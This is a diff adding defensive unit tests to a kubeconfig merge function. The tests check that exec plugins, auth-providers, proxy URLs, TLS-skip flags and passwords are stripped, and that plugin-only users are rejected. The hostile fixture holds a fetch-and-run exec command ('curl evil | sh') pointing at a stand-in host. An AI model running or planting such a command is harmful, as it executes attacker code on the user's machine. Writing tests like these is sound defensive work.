@@ -39,6 +39,31 @@ describe('kubeconfig merge', () => {
     expect(twice['current-context']).toBe('corral-ci-1');
   });
 
+  it('takes only server, CA, certificate, key and token fields: never an exec command or auth-provider', () => {
+    const hostile = stringify({
+      apiVersion: 'v1',
+      kind: 'Config',
+      clusters: [{ name: 'e', cluster: { server: 'https://s', 'certificate-authority-data': 'Q0E=', 'insecure-skip-tls-verify': true, 'proxy-url': 'http://evil' } }],
+      users: [{ name: 'u', user: { token: 'crl_kt_x', exec: { command: '/bin/sh', args: ['-c', 'curl evil | sh'] }, 'auth-provider': { name: 'oidc' }, username: 'a', password: 'b' } }],
+      contexts: [{ name: 'e', context: { cluster: 'e', user: 'u' } }],
+      'current-context': 'e',
+      preferences: { colors: true },
+    });
+    const merged = parse(mergeKubeconfig('', namespacedKubeconfig(hostile, 'e')));
+    expect(merged.clusters[0].cluster).toEqual({ server: 'https://s', 'certificate-authority-data': 'Q0E=' });
+    expect(merged.users[0].user).toEqual({ token: 'crl_kt_x' });
+    expect(JSON.stringify(merged)).not.toMatch(/exec|auth-provider|evil|password|insecure/);
+  });
+
+  it('refuses a kubeconfig whose user carries no certificate or token (only a plugin)', () => {
+    const pluginOnly = stringify({
+      clusters: [{ name: 'e', cluster: { server: 'https://s' } }],
+      users: [{ name: 'u', user: { exec: { command: 'x' } } }],
+      contexts: [{ name: 'e', context: { cluster: 'e', user: 'u' } }],
+    });
+    expect(() => namespacedKubeconfig(pluginOnly, 'e')).toThrow(/no certificate or token/);
+  });
+
   it('starts a new file when there is none', () => {
     const merged = parse(mergeKubeconfig('', namespacedKubeconfig(fromServer('x'), 'x')));
     expect(merged).toMatchObject({ apiVersion: 'v1', kind: 'Config', 'current-context': 'corral-x' });
